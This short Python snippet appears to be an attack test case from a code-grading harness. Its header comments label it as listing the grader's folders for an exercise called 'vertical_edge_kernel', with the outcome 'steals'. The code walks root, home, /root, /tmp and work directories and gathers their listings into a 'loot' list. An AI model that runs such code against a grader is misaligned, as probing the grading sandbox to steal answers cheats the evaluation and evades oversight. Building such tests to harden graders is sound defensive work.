# attack: lists the grader's folders
# exercises: vertical_edge_kernel
# outcome: steals
import os
for folder in ("__FOLDER__", "__ROOT__", "/", "/home", "/root", "/tmp", "/work"):
    try:
        loot.append(os.listdir(folder))
    except OSError:
        pass
